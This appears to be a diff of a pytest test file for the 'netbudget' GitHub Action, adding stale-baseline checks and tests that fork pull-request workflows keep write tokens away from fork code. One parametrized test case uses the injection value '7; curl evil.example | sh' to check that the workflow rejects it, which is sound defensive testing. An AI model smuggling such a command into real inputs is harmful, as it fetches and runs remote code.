@@ -10,6 +10,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -56,7 +57,7 @@ def test_the_action_installs_nothing_and_reuses_kept_actions():
     comment = next(step for step in steps if "sticky" in step.get("uses", ""))
     assert comment["continue-on-error"] is True  # a fork's read-only token must not fail the budgets job
     assert "pull_request" in comment["if"]
-    assert set(ACTION["outputs"]) == {"status", "report", "html", "changed"}
+    assert set(ACTION["outputs"]) == {"status", "report", "html", "markdown", "changed"}
 
 
 EXPRESSION = re.compile(r"\$\{\{\s*([^}]*?)\s*\}\}")
@@ -85,23 +86,22 @@ def step_named(name: str) -> dict:
     return next(step for step in ACTION["runs"]["steps"] if step["name"].startswith(name))
 
 
-def run_action(workspace: Path, runner_temp: Path, inputs: dict[str, str], github: dict[str, str]) -> dict:
-    """Run every shell step of action.yml in order, as the runner does (bash -e -o pipefail, the step's
-    env and working directory, GITHUB_OUTPUT per step); return the steps' outputs and exit codes. A
-    step that uses another action outputs what USES_OUTPUTS says."""
-    context = {f"github.{name}": value for name, value in github.items()}
-    for name, spec in ACTION["inputs"].items():
-        context[f"inputs.{name}"] = inputs.get(name, evaluate(spec.get("default", ""), context))
+def run_steps(steps: list[dict], workspace: Path, runner_temp: Path, context: dict[str, str], prefix: str = "") -> dict:
+    """Run every shell step in order, as the runner does (bash -e -o pipefail, the step's env and
+    working directory, GITHUB_OUTPUT per step); each step's outputs go into ``context`` as
+    ``steps.ID.outputs.NAME``, a step that uses another action outputs what USES_OUTPUTS says, and a
+    step whose ``if`` needs an output that is not set is skipped. The exit code and output of each
+    step, by its id (or name)."""
     summary = runner_temp / "step_summary.md"
     codes = {}
-    for index, step in enumerate(ACTION["runs"]["steps"]):
+    for index, step in enumerate(steps):
         if any(not context.get(name) for name in SET_OUTPUT.findall(step.get("if", ""))):
             continue  # skipped on GitHub too
         if "run" not in step:
             for key, value in USES_OUTPUTS.get(step.get("id", ""), {}).items():
                 context[f"steps.{step['id']}.outputs.{key}"] = value
             continue
-        output = runner_temp / f"output-{index}"
+        output = runner_temp / f"output-{prefix}{index}"
         output.write_text("", encoding="utf-8")
         env = {**os.environ, "RUNNER_TEMP": str(runner_temp), "GITHUB_OUTPUT": str(output)}
         env["GITHUB_STEP_SUMMARY"] = str(summary)
@@ -115,17 +115,28 @@ def run_action(workspace: Path, runner_temp: Path, inputs: dict[str, str], githu
             text=True,
             check=False,
         )
-        codes[step.get("id", step["name"])] = (done.returncode, done.stdout + done.stderr)
+        codes[step.get("id") or step.get("name") or f"step-{index}"] = (done.returncode, done.stdout + done.stderr)
         for line in output.read_text(encoding="utf-8").splitlines():
             key, _, value = line.partition("=")
             context[f"steps.{step.get('id')}.outputs.{key}"] = value
-    return {"context": context, "codes": codes, "summary": summary}
+    return codes
+
+
+def run_action(workspace: Path, runner_temp: Path, inputs: dict[str, str], github: dict[str, str]) -> dict:
+    """Run every shell step of action.yml with these inputs (the defaults for the others); return the
+    context (the steps' outputs), the steps' exit codes and the job summary's path."""
+    context = {f"github.{name}": value for name, value in github.items()}
+    for name, spec in ACTION["inputs"].items():
+        context[f"inputs.{name}"] = inputs.get(name, evaluate(spec.get("default", ""), context))
+    codes = run_steps(ACTION["runs"]["steps"], workspace, runner_temp, context, prefix="action-")
+    return {"context": context, "codes": codes, "summary": runner_temp / "step_summary.md"}
 
 
 @pytest.fixture
-def pull_request(pytester, project, monkeypatch, tmp_path_factory):
-    """An origin repository (main with a baseline, a branch that widens tiny to 66 params and accepts
-    it) and the branch cloned as actions/checkout does: one commit deep, without main."""
+def open_pull_request(pytester, project, monkeypatch, tmp_path_factory):
+    """``open_pull_request(width, accept)``: an origin repository (main with a baseline, a branch that
+    makes tiny ``width`` wide and, with ``accept``, updates the baseline) and the branch cloned as
+    actions/checkout does: one commit deep, without main."""
     for variable in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
         monkeypatch.setenv(variable, "Netbudget Test")
     for variable in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"):
@@ -135,19 +146,29 @@ def pull_request(pytester, project, monkeypatch, tmp_path_factory):
         done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=False)
         assert done.returncode == 0, done.stderr
 
-    git("init", "-q", "-b", "main")
-    (pytester.path / ".gitignore").write_text("__pycache__/\n", encoding="utf-8")
-    write(pytester, project)
-    assert pytester.runpytest("--netbudget", "--netbudget-update").ret == 0
-    git("add", "-A")
-    git("commit", "-q", "-m", "models and baseline")
-    git("checkout", "-q", "-b", "wider")
-    write(pytester, project, width=6)
-    assert pytester.runpytest("--netbudget", "--netbudget-update").ret == 0
-    git("commit", "-q", "-am", "wider tiny, accepted")
-    workspace = tmp_path_factory.mktemp("workspace")
-    git("clone", "-q", "--depth=1", "--single-branch", "--branch=wider", pytester.path.as_uri(), str(workspace))
-    return workspace
+    def open_it(width: int, accept: bool, branch: str = "wider") -> Path:
+        git("init", "-q", "-b", "main")
+        (pytester.path / ".gitignore").write_text("__pycache__/\n", encoding="utf-8")
+        write(pytester, project)
+        assert pytester.runpytest("--netbudget", "--netbudget-update").ret == 0
+        git("add", "-A")
+        git("commit", "-q", "-m", "models and baseline")
+        git("checkout", "-q", "-b", branch)
+        write(pytester, project, width=width)
+        if accept:
+            assert pytester.runpytest("--netbudget", "--netbudget-update").ret == 0
+        git("commit", "-q", "-am", f"tiny {width} wide{', accepted' if accept else ''}")
+        workspace = tmp_path_factory.mktemp("workspace")
+        git("clone", "-q", "--depth=1", "--single-branch", f"--branch={branch}", pytester.path.as_uri(), str(workspace))
+        return workspace
+
+    return open_it
+
+
+@pytest.fixture
+def pull_request(open_pull_request):
+    """A pull request that widens tiny to 66 params and accepts it."""
+    return open_pull_request(6, accept=True)
 
 
 def test_the_actions_steps_on_a_pull_request(pull_request, tmp_path, preloaded):
@@ -232,3 +253,156 @@ def test_comment_when_must_be_always_or_changed(tmp_path):
     ran = run_action(tmp_path, tmp_path, inputs, {"base_ref": "", "token": "unused", "event_name": "push"})
     code, log = ran["codes"]["run"]
     assert code == 2 and "comment-when must be always or changed, not 'sometimes'" in log
+
+
+# A pull request that shrinks tiny (Linear(10, 4): 44 params, against the baseline's 55) and does not
+# update the baseline: nothing grew, so no budget fails, but main's --netbudget-check-baseline would
+# fail after the merge.
+
+
+def test_the_action_fails_a_pull_request_whose_baseline_does_not_match_its_code(open_pull_request, tmp_path):
+    # Before: the job was green, and main went red after the merge.
+    workspace = open_pull_request(4, accept=False)
+    github = {"base_ref": "main", "token": "unused", "event_name": "pull_request"}
+    ran = run_action(workspace, tmp_path, {"python": sys.executable, "pytest-args": "-p no:cacheprovider"}, github)
+    code, log = ran["codes"]["run"]
+    assert ran["context"]["steps.run.outputs.status"] == "fail", log
+    assert "netbudget: ERROR: netbudget-baseline.json does not match this run: tiny's params" in log
+    assert ran["codes"]["Fail when a model failed"][0] == 1  # the job fails
+
+
+def test_stale_baseline_warning_lets_such_a_pull_request_pass(open_pull_request, tmp_path):
+    workspace = open_pull_request(4, accept=False)
+    github = {"base_ref": "main", "token": "unused", "event_name": "pull_request"}
+    inputs = {"python": sys.executable, "pytest-args": "-p no:cacheprovider", "stale-baseline": "warning"}
+    ran = run_action(workspace, tmp_path, inputs, github)
+    code, log = ran["codes"]["run"]
+    assert ran["context"]["steps.run.outputs.status"] == "pass", log
+    assert "netbudget: netbudget-baseline.json is out of date: tiny's params" in log
+    assert ran["codes"]["Fail when a model failed"][0] == 0
+
+
+def test_an_unknown_stale_baseline_value_stops_the_action(tmp_path):
+    inputs = {"python": sys.executable, "stale-baseline": "maybe"}
+    ran = run_action(tmp_path, tmp_path, inputs, {"base_ref": "", "token": "unused", "event_name": "push"})
+    code, log = ran["codes"]["run"]
+    assert code == 2 and "stale-baseline must be error or warning, not 'maybe'" in log
+
+
+# --- pull requests from forks: two workflows ---------------------------------------------------------------
+
+FORK_PR = yaml.safe_load((ROOT / "examples" / "github" / "netbudget-fork-pr.yml").read_text(encoding="utf-8"))
+FORK_COMMENT = yaml.safe_load((ROOT / "examples" / "github" / "netbudget-fork-comment.yml").read_text(encoding="utf-8"))
+HEAD_SHA = "0123456789abcdef0123456789abcdef01234567"
+# `gh api repos/OWNER/REPO/pulls/N --jq .head.sha` as GitHub answers it: pull request 7's head is HEAD_SHA.
+FAKE_GH = f"""#!/bin/sh
+[ "$GH_TOKEN" = write-token ] || {{ echo "no token" >&2; exit 4; }}
+case "$*" in
+  "api repos/owner/repo/pulls/7 --jq .head.sha") echo {HEAD_SHA} ;;
+  "api repos/owner/repo/pulls/8 --jq .head.sha") echo fedcba9876543210fedcba9876543210fedcba98 ;;
+  *) echo "unexpected gh call: $*" >&2; exit 1 ;;
+esac
+"""
+
+
+def only_job(workflow: dict) -> list[dict]:
+    (job,) = workflow["jobs"].values()
+    return job["steps"]
+
+
+def test_the_fork_workflows_trigger_each_other_and_never_run_the_forks_code_with_a_write_token():
+    # the comment workflow follows the pull request's by name, with only what it needs to write
+    assert FORK_COMMENT[True]["workflow_run"]["workflows"] == [FORK_PR["name"]]  # YAML reads `on:` as True
+    assert set(FORK_PR[True]) == {"pull_request"} and FORK_PR["permissions"] == {"contents": "read"}
+    assert FORK_COMMENT["permissions"] == {"actions": "read", "pull-requests": "write"}
+    comment_steps = only_job(FORK_COMMENT)
+    assert not any("checkout" in step.get("uses", "") for step in comment_steps)
+    # no expression is pasted into a script (where text from the fork could become code): env only
+    for step in only_job(FORK_PR) + comment_steps:
+        assert "${{" not in step.get("run", "")
+    upload = next(step for step in only_job(FORK_PR) if "upload-artifact" in step.get("uses", ""))
+    download = next(step for step in comment_steps if "download-artifact" in step.get("uses", ""))
+    assert download["with"]["name"] == upload["with"]["name"]
+    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
+
+
+def run_fork_pull_request(workspace: Path, temp: Path) -> dict[str, str]:
+    """The pull request's workflow after checkout and install: the action (comment off, as the
+    workflow says), then the workflow's own step that keeps the comment; its context."""
+    action = next(step for step in only_job(FORK_PR) if step.get("id") == "netbudget")
+    inputs = {**action["with"], "python": sys.executable, "pytest-args": "-p no:cacheprovider"}
+    ran = run_action(workspace, temp, inputs, {"base_ref": "main", "token": "unused", "event_name": "pull_request"})
+    assert ran["context"]["steps.run.outputs.status"] == "pass", ran["codes"]["run"][1]
+    context = {
+        "steps.netbudget.outputs.markdown": ran["context"]["steps.run.outputs.markdown"],
+        "github.event.pull_request.number": "7",
+    }
+    steps = only_job(FORK_PR)
+    after = steps[steps.index(action) + 1 :]  # checkout, Python and the install ran before (here: this venv)
+    codes = run_steps(after, workspace, temp, context, prefix="pr-")
+    assert all(code == 0 for code, _ in codes.values()), codes
+    return context
+
+
+def run_fork_comment(artifact: Path, temp: Path) -> tuple[dict, dict[str, str]]:
+    """The comment workflow, with the artifact as download-artifact leaves it and `gh` answering
+    as GitHub does; its steps' exit codes and context."""
+    base = temp / "base"
+    download = next(step for step in only_job(FORK_COMMENT) if "download-artifact" in step.get("uses", ""))
+    shutil.copytree(artifact, base / download["with"]["path"])
+    bin_dir = temp / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "gh").write_text(FAKE_GH, encoding="utf-8")
+    (bin_dir / "gh").chmod(0o755)
+    context = {
+        "github.token": "write-token",
+        "github.repository": "owner/repo",
+        "github.event.workflow_run.head_sha": HEAD_SHA,
+    }
+    path = os.environ["PATH"]
+    os.environ["PATH"] = f"{bin_dir}{os.pathsep}{path}"
+    try:
+        codes = run_steps(only_job(FORK_COMMENT), base, temp, context, prefix="comment-")
+    finally:
+        os.environ["PATH"] = path
+    return codes, context
+
+
+def test_a_fork_pull_request_gets_its_comment_from_the_workflow_run(pull_request, tmp_path, preloaded):
+    workspace = pull_request
+    pr_context = run_fork_pull_request(workspace, tmp_path)
+    artifact = workspace / "netbudget-comment"
+    upload = next(step for step in only_job(FORK_PR) if "upload-artifact" in step.get("uses", ""))
+    assert workspace / upload["with"]["path"] == artifact
+    report = Path(pr_context["steps.netbudget.outputs.markdown"]).read_text(encoding="utf-8")
+    assert (artifact / "netbudget.md").read_text(encoding="utf-8") == report
+    assert (artifact / "pull-request-number").read_text(encoding="utf-8") == "7\n"
+
+    codes, context = run_fork_comment(artifact, tmp_path)
+    assert codes["pull-request"][0] == 0, codes["pull-request"][1]
+    sticky = next(step for step in only_job(FORK_COMMENT) if "sticky" in step.get("uses", ""))
+    assert evaluate(sticky["with"]["number"], context) == "7"
+    posted = tmp_path / "base" / sticky["with"]["path"]
+    assert posted.read_text(encoding="utf-8") == report
+    assert "| <code>fc</code> (Linear) | resized | 55 -> 66 | 50 -> 60 | 105 -> 126 |" in report
+
+
+@pytest.mark.parametrize(
+    ("number", "code", "message"),
+    [
+        pytest.param("7; curl evil.example | sh", 1, "pull-request-number is not a number", id="not-a-number"),
+        pytest.param("", 1, "pull-request-number is not a number", id="empty"),
+        pytest.param("8", 0, "not commenting: pull request #8's head is fedcba98", id="another-pull-request"),
+    ],
+)
+def test_the_comment_workflow_posts_only_to_the_pull_request_the_run_tested(tmp_path, number, code, message):
+    artifact = tmp_path / "artifact"
+    artifact.mkdir()
+    (artifact / "netbudget.md").write_text("## netbudget\n", encoding="utf-8")
+    (artifact / "pull-request-number").write_text(f"{number}\n", encoding="utf-8")
+    codes, context = run_fork_comment(artifact, tmp_path)
+    assert codes["pull-request"][0] == code
+    assert message in codes["pull-request"][1]
+    assert "steps.pull-request.outputs.number" not in context  # the sticky step's `if` skips it
+    sticky = next(step for step in only_job(FORK_COMMENT) if "sticky" in step.get("uses", ""))
+    assert sticky["if"] == "steps.pull-request.outputs.number != ''"
